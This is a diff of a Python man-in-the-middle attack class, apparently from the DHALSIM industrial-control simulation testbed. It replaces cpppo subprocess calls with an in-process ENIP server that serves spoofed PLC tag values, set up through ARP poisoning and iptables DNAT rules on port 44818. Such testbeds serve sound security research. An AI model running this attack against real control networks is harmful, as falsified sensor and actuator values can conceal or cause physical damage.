@@ -1,13 +1,13 @@
 import argparse
 import os
-import subprocess
 import threading
 import time
 from pathlib import Path
-from typing import List
 
 from dhalsim.network_attacks.utilities import launch_arp_poison, restore_arp
 from dhalsim.network_attacks.synced_attack import SyncedAttack
+from dhalsim.python2.enip_client import EnipError
+from dhalsim.python2.enip_server import EnipServer, TagTable
 
 
 class MitmAttack(SyncedAttack):
@@ -15,8 +15,12 @@ class MitmAttack(SyncedAttack):
     This is a Man In The Middle attack. This attack will respond to request for
     the target PLC.
 
-    It does this by starting its own CPPPO server, and replying to the request with its
-    own value. It also uses CPPPO to request the real values from the target PLC.
+    It does this by serving the tags of the target PLC from an ENIP server in its own process,
+    and replying to the requests with its own values. The served values are kept in a
+    :class:`~dhalsim.python2.enip_server.TagTable`. A thread requests the real values from the
+    target PLC every :code:`FETCH_INTERVAL` seconds, and every iteration does as well. Each time,
+    the spoofed values are written to the table in one update, so a request never sees a mix of
+    old and new values, and the values served are at most one fetch old.
 
     When preforming this attack, you can use either an offset, or an absolute value.
 
@@ -26,15 +30,26 @@ class MitmAttack(SyncedAttack):
     :param yaml_index: The index of the attack in the intermediate YAML
     """
 
+    FETCH_INTERVAL = 0.05
+    """Time in seconds between two requests of the real values while the attack runs"""
+
     def __init__(self, intermediate_yaml_path: Path, yaml_index: int):
         super().__init__(intermediate_yaml_path, yaml_index)
         os.system('sysctl net.ipv4.ip_forward=1')
         self.thread = None
         self.server = None
         self.run_thread = False
+        self.request_tags = self.intermediate_plc['actuators'] + self.intermediate_plc['sensors']
         self.tags = {}
+        self.table = TagTable(self.request_tags)
         self.dict_lock = threading.Lock()
 
+        # Counters
+        self.updates = 0
+        self.failed_updates = 0
+        self.last_update = None
+        self.max_update_gap = 0.0
+
     def setup(self):
         """
         This function start the network attack.
@@ -47,7 +62,8 @@ class MitmAttack(SyncedAttack):
         Afterwards it launches the ARP poison, which basically tells the network that the attacker
         is the PLC, and it tells the PLC that the attacker is the router.
 
-        Finally, it launches the thread that will respond to the CPPPO requests.
+        The ENIP server and the thread fetching the real values are started before, so the first
+        request is already answered with spoofed values.
         """
         os.system('iptables -t nat -A PREROUTING -p tcp -d ' + self.target_plc_ip +
                   ' --dport 44818 -j DNAT --to-destination ' + self.attacker_ip + ':44818')
@@ -55,22 +71,16 @@ class MitmAttack(SyncedAttack):
         os.system('iptables -A INPUT -p icmp -j DROP')
         os.system('iptables -A OUTPUT -p icmp -j DROP')
 
-        cmd = ['/usr/bin/python2', '-m', 'cpppo.server.enip', '--print', '--address',
-               self.attacker_ip + ":44818"]
-
-        request_tags = self.intermediate_plc['actuators'] + self.intermediate_plc['sensors']
-        for tag in request_tags:
-            cmd.append(str(tag) + ':1=REAL')
-
-        self.logger.debug(f"MITM Attack server: {cmd}")
+        self.update_tags_dict()
 
-        self.server = subprocess.Popen(cmd, shell=False)
+        self.server = EnipServer(self.attacker_ip + ":44818", self.table)
+        self.server.start()
+        self.logger.debug(f"MITM Attack server on {self.attacker_ip}:44818 "
+                          f"serving {self.request_tags}")
 
         self.run_thread = True
-
-        self.update_tags_dict()
-
-        self.thread = threading.Thread(target=self.cpppo_thread)
+        self.thread = threading.Thread(target=self.fetch_thread)
+        self.thread.daemon = True
         self.thread.start()
 
         # Launch the ARP poison by sending the required ARP network packets
@@ -84,92 +94,71 @@ class MitmAttack(SyncedAttack):
                           f"{self.intermediate_attack['gateway_ip']}")
 
     def receive_original_tags(self):
-        """Update the :code:`tags` dict to the newest original values from the target PLC"""
-        request_tags = self.intermediate_plc['actuators'] + self.intermediate_plc['sensors']
-
-        cmd = ['/usr/bin/python2', '-m', 'cpppo.server.enip.client', '--print', '--address',
-               str(self.target_plc_ip) + ":44818"]
-
-        for tag in request_tags:
-            cmd.append(str(tag) + ':1')
+        """
+        Request the real values from the target PLC, in one request.
 
+        :return: dict of every tag of the target PLC to its value, or None when the PLC did
+                 not answer
+        """
         try:
-            client = subprocess.Popen(cmd, shell=False, stdout=subprocess.PIPE)
-
-            # client.communicate is blocking
-            raw_out = client.communicate()
-
-            # Value is stored as first tuple element between a pair of square brackets
-            values = []
-            raw_string = raw_out[0]
-            split_string = raw_string.split(b"\n")
-            for word in split_string:
-                values.append(word[(word.find(b'[') + 1):word.find(b']')])
-            values.pop()
-
-            for idx, value in enumerate(values):
-                self.tags[request_tags[idx]] = float(value.decode())
-
-        except Exception as error:
-            self.logger.error(f"ERROR MITM Attack ENIP send_multiple: {error}")
+            values = self.enip_client.read_tags(self.target_plc_ip, self.request_tags)
+        except EnipError as error:
+            self.logger.error(f"ERROR MITM Attack ENIP receive: {error}")
+            return None
+        return dict(zip(self.request_tags, values))
 
-    def update_tags_dict(self):
-        """
-        Update the :code:`tags` dict to the original values from the target PLC,
-        and then overwrite them with the fake values and offsets.
+    def spoof(self, values: dict) -> dict:
         """
-        # Acquire the lock
-        self.dict_lock.acquire()
+        Overwrite the values of the tags that are spoofed with the fake values and offsets.
 
-        self.receive_original_tags()
-
-        # Overwrites the tags that we are spoofing
+        :param values: dict of tag to its real value
+        :return: a new dict with the values to serve
+        """
+        spoofed = dict(values)
         for tag in self.intermediate_attack['tags']:
             if 'value' in tag.keys():
-                # Overwrite the value in the dict
-                self.tags[tag['tag']] = tag['value']
+                spoofed[tag['tag']] = tag['value']
             elif 'offset' in tag.keys():
-                # Offset the value in the dict
-                self.tags[tag['tag']] += tag['offset']
+                spoofed[tag['tag']] = spoofed[tag['tag']] + tag['offset']
+        return spoofed
 
-        # Release the lock
-        self.dict_lock.release()
-
-    def make_client_cmd(self) -> List[str]:
+    def update_tags_dict(self):
         """
-        Put all the tags together into a command that starts CPPPO and responds to request.
-
-        :return: The command that starts the CPPPO client
-        :rtype: List[str]
+        Update the :code:`tags` dict to the original values from the target PLC, overwritten
+        with the fake values and offsets, and serve them. When the PLC does not answer, the
+        previous values keep being served.
         """
-        cmd = ['/usr/bin/python2', '-m', 'cpppo.server.enip.client', '--print', '--address',
-               str(self.attacker_ip)]
-
-        # Acquire the lock
-        self.dict_lock.acquire()
-
-        for tag in self.tags:
-            cmd.append(str(tag) + ':1=' + str(self.tags[tag]))
-
-        # Release the lock
-        self.dict_lock.release()
-
-        return cmd
-
-    def cpppo_thread(self, interrupt_test=False):
-        """Start the CPPPO client to respond to requests."""
+        with self.dict_lock:
+            originals = self.receive_original_tags()
+            if originals is None:
+                self.failed_updates += 1
+                return
+
+            self.tags = self.spoof(originals)
+            self.table.update(self.request_tags, [self.tags[tag] for tag in self.request_tags])
+
+            now = time.time()
+            if self.last_update is not None:
+                self.max_update_gap = max(self.max_update_gap, now - self.last_update)
+            self.last_update = now
+            self.updates += 1
+
+    def fetch_thread(self, interrupt_test=False):
+        """Keep the served values up to date while the attack runs."""
         while self.run_thread:
-            cmd = self.make_client_cmd()
-            self.logger.debug(f"MITM Attack Client: {cmd}")
-
-            try:
-                client = subprocess.Popen(cmd, shell=False)
-                client.wait()
-            except Exception as error:
-                self.logger.error(f"ERROR MITM Attack client ENIP send_multiple: {error}")
+            self.update_tags_dict()
             if interrupt_test:
                 break
-            time.sleep(0.05)
+            time.sleep(self.FETCH_INTERVAL)
+
+    def stats(self) -> dict:
+        """
+        :return: dict with the amount of updates of the served values, the updates that failed,
+                 and the longest time in seconds between two updates
+        """
+        return {'updates': self.updates,
+                'failed_updates': self.failed_updates,
+                'max_update_gap': self.max_update_gap}
 
     def interrupt(self):
         """
@@ -202,9 +191,10 @@ class MitmAttack(SyncedAttack):
         os.system('iptables -D INPUT -p icmp -j DROP')
         os.system('iptables -D OUTPUT -p icmp -j DROP')
 
-        self.server.terminate()
         self.run_thread = False
         self.thread.join()
+        self.server.stop()
+        self.logger.debug(f"MITM Attack served values: {self.stats()}")
 
     def attack_step(self):
         """When the attack is running, it will update the tags dict with the most recent values."""